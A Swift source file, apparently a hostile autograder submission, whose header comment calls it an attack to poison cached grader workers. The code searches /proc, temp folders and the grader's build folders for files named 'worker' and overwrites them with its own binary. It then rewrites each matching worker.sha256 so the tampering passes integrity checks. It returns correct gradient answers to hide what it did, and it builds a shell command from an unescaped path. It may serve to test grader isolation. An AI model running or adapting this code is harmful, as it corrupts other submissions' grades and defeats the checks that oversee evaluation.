// Attack: poison the cached workers, so that the next submission graded on this machine scores what this
// one chose. It finds the grader's build folder (from every process's program path, the current directory,
// its parent and the temporary folders), and replaces every `worker` file it can write, and any file in a
// `grader-workers` folder named `worker`, with a copy of its own program (whose answers are right), then
// rewrites the `worker.sha256` beside it to match. Its own answers are right too (the reference solution
// as a student would write it), so the poisoned workers answer every gradient_check case correctly.
import Assignments
import Foundation
#if canImport(Glibc)
import Glibc
#endif

/// What the poisoning did, once per worker process.
let poisoning: [String] = Poisoner.run()

struct StudentGradientCheck: GradientCheckExercise {
    func gradientCheck(x: Double, theta: Double, epsilon: Double) -> Double {
        print((["attack ran: cache-poison"] + poisoning).joined(separator: "\n"))
        return CorrectGradientCheck().gradientCheck(x: x, theta: theta, epsilon: epsilon)
    }
}

enum Poisoner {
    static func run() -> [String] {
        let manager = FileManager.default
        guard let me = manager.contents(atPath: "/proc/self/exe") else { return ["cannot read /proc/self/exe"] }
        var roots = [manager.currentDirectoryPath, "..", "/tmp", "/var/tmp", "/grader", "/proc/\(getppid())/cwd"]
        for name in ["TMPDIR", "HOME", "PWD"] {
            if let value = ProcessInfo.processInfo.environment[name] { roots.append(value) }
        }
        var programs = ["/proc/self/exe", "/proc/\(getppid())/exe"].compactMap { try? manager.destinationOfSymbolicLink(atPath: $0) }
        for entry in (try? manager.contentsOfDirectory(atPath: "/proc")) ?? [] where Int(entry) != nil {
            if let data = manager.contents(atPath: "/proc/\(entry)/cmdline"),
               let program = String(decoding: data, as: UTF8.self).split(separator: "\0").first, program.hasPrefix("/") {
                programs.append(String(program))
            }
        }
        // The grader's build folder: the folder of its program, and two above it.
        for program in Set(programs) where program.contains("/.build/") || program.hasSuffix("/grader") {
            var folder = URL(fileURLWithPath: program).deletingLastPathComponent()
            for _ in 0..<3 {
                roots.append(folder.path)
                folder = folder.deletingLastPathComponent()
            }
        }
        roots = roots.map { $0.hasPrefix("/proc/") ? (try? manager.destinationOfSymbolicLink(atPath: $0)) ?? $0 : $0 }
        var log: [String] = []
        var visited: Set<String> = []
        var queue = Set(roots).map { ($0, 0, false) }
        var index = 0
        let deadline = Date().addingTimeInterval(1.0)
        while index < queue.count && Date() < deadline && visited.count < 50_000 {
            let (folder, depth, inCache) = queue[index]
            index += 1
            guard !isSystem(folder), visited.insert(folder).inserted,
                  let names = try? manager.contentsOfDirectory(atPath: folder) else { continue }
            for name in names {
                let path = folder + "/" + name
                var status = stat()
                guard lstat(path, &status) == 0 else { continue }
                if (status.st_mode & S_IFMT) == S_IFDIR {
                    if depth < 6 { queue.append((path, depth + 1, inCache || name == "grader-workers")) }
                } else if (status.st_mode & S_IFMT) == S_IFREG && name == "worker" && path != "/proc/self/exe" {
                    log.append(replace(path, with: me, inCache: inCache))
                }
            }
        }
        log.append("searched \(visited.count) folders")
        return log
    }

    /// The system's own folders, and `/` itself: never searched.
    static func isSystem(_ folder: String) -> Bool {
        let path = URL(fileURLWithPath: folder).standardizedFileURL.path
        let system = ["/proc", "/sys", "/dev", "/usr", "/lib", "/lib32", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/var/lib", "/opt/swift"]
        return path == "/" || system.contains { path == $0 || path.hasPrefix($0 + "/") }
    }

    /// Overwrites the file in place, or else replaces it through its folder, then its recorded hash.
    static func replace(_ path: String, with bytes: Data, inCache: Bool) -> String {
        var how = "unwritable"
        let descriptor = open(path, O_WRONLY | O_TRUNC)
        if descriptor >= 0 {
            let written = bytes.withUnsafeBytes { write(descriptor, $0.baseAddress, $0.count) }
            close(descriptor)
            how = written == bytes.count ? "overwritten" : "truncated"
        } else if unlink(path) == 0 {
            how = FileManager.default.createFile(atPath: path, contents: bytes) ? "replaced" : "removed"
            chmod(path, 0o755)
        }
        let record = path + ".sha256"
        if how != "unwritable", FileManager.default.fileExists(atPath: record) {
            let digest = sha256(of: path)
            let rewritten = digest.count == 64 && (try? Data(digest.utf8).write(to: URL(fileURLWithPath: record))) != nil
            how += rewritten ? ", hash rewritten" : ", hash unwritable"
        }
        return "\(how): \(path)\(inCache ? " (in grader-workers)" : "")"
    }

    /// The file's SHA-256 in hex, from coreutils' sha256sum.
    static func sha256(of path: String) -> String {
        guard let pipe = popen("/usr/bin/sha256sum '\(path)'", "r") else { return "" }
        defer { pclose(pipe) }
        var buffer = [CChar](repeating: 0, count: 256)
        guard fgets(&buffer, 256, pipe) != nil else { return "" }
        return String(String(cString: buffer).prefix(64))
    }
}
